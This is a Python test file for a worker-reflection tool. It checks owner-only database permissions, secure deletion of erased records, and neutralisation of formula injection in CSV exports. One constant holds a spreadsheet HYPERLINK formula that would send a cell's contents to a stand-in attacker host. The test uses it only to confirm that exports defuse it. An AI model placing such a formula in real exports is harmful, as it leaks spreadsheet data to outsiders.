"""Attacks on what the project writes to disk and hands to supervisors (issue 13, item 9)."""
from __future__ import annotations

import csv
import io
import os
import stat
import sqlite3
from datetime import date

from peer_reflect.review import render_csv, summary
from peer_reflect.review.trends import render_trends_csv, trends
from peer_reflect.storage import ReflectionRecord, Store

INJECTION = "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")"


def _store(tmp_path) -> Store:
    (tmp_path / "var").mkdir()
    store = Store(f"sqlite:///{tmp_path / 'var' / 'reflections.db'}", tmp_path / "outbox")
    store.migrate()
    return store


def test_a_new_database_file_is_readable_by_its_owner_only(tmp_path):
    _store(tmp_path)
    mode = stat.S_IMODE(os.stat(tmp_path / "var" / "reflections.db").st_mode)
    assert mode & 0o077 == 0, oct(mode)


def test_an_erased_reflection_does_not_survive_in_the_file(tmp_path):
    """secure_delete is set on every connection (some SQLite builds default to on, others not)."""
    store = _store(tmp_path)
    with store.engine.connect() as connection:
        assert connection.exec_driver_sql("PRAGMA secure_delete").scalar() == 1
    marker = "ZQXJ-erased-reflection-marker"
    store.save_reflection(ReflectionRecord(session_key="k1", worker_id="w" * 64, period_start=date(2026, 11, 2),
                                           answers={"moment": marker * 20}, themes=[]))
    store.erase_worker("w" * 64)
    path = tmp_path / "var" / "reflections.db"
    with sqlite3.connect(path) as db:
        db.execute("PRAGMA wal_checkpoint(TRUNCATE)")
    data = path.read_bytes() + b"".join(p.read_bytes() for p in path.parent.glob("reflections.db-*"))
    assert marker.encode() not in data


def test_csv_exports_never_start_a_cell_with_a_formula(tmp_path):
    store = _store(tmp_path)
    for i in range(6):  # enough workers for the team's group to be published
        store.save_reflection(ReflectionRecord(
            session_key=f"k{i}", worker_id=f"{i:064d}", period_start=date(2026, 11, 2),
            answers={"moment": "x"}, themes=[("support", ["x"])], checkin_score=5, team=INJECTION))
    report = summary(store, "month", by_team=True, min_group_size=5)
    outputs = [render_csv(report), render_trends_csv(trends(report))]
    cells = [cell for text in outputs for row in csv.reader(io.StringIO(text)) for cell in row]
    assert any(INJECTION in cell for cell in cells), "the team should still be shown, neutralised"
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
